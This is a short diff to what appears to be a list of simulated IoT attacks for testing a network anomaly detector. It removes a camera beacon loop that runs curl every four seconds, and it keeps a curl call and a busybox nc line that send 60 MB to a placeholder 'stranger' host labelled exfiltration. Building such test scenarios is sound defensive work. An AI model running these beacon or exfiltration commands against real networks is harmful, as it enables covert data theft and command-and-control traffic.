@@ -135,8 +135,6 @@ ATTACKS = [
            needs=["sshd"], by="motion", after=SETTLED),
     Attack("a call to the Internet, by the motion sensor", "curl", "curl", ["new-destination"],
            words("curl -s -o /dev/null http://{stranger}/"), by="motion", after=SETTLED),
-    Attack("calls to a bare address every 4 s, by the camera", "curl", "curl", ["beacon"],
-           words("for n in $(seq 13); do curl -s -o /dev/null http://{stranger}/; sleep 4; done"), by="camera", after=SETTLED),
     Attack("60 MB to a stranger, by the thermostat", "busybox", "busybox", ["exfiltration"],
            words("head -c 60000000 /dev/zero | busybox nc -w 5 {stranger} {sink}"), by="thermostat", after=SETTLED),
 ]
